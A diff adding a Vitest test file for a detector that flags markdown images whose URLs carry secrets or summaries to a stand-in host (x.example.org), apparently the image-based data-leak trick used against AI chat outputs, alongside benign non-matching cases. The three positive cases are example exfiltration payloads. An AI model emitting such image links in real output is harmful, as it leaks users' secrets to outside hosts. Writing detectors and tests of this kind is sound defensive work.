@@ -1,0 +1,21 @@
+import { describe, expect, it } from 'vitest';
+import { findImages } from '../../../src/core/detect/find-images.ts';
+
+describe('findImages', () => {
+  it.each([
+    '![a](https://x.example.org/p?d={secret})',
+    '![](https://x.example.org/p.png?q=<summary>) end',
+    '![a](https://x.example.org/?d=%7Bx%7D)',
+  ])('%s takes data along', (text) => {
+    expect(findImages('a', text).map(({ rule, field }) => [rule, field])).toEqual([['exfiltration.image', 'a']]);
+  });
+
+  it.each([
+    '![a](https://x.example.org/badge.svg?style=flat)',
+    '![a](./p.png)',
+    '[a](https://x.example.org/p?d={x})',
+    '!['.repeat(1000),
+  ])('%s does not', (text) => {
+    expect(findImages('a', text)).toEqual([]);
+  });
+});
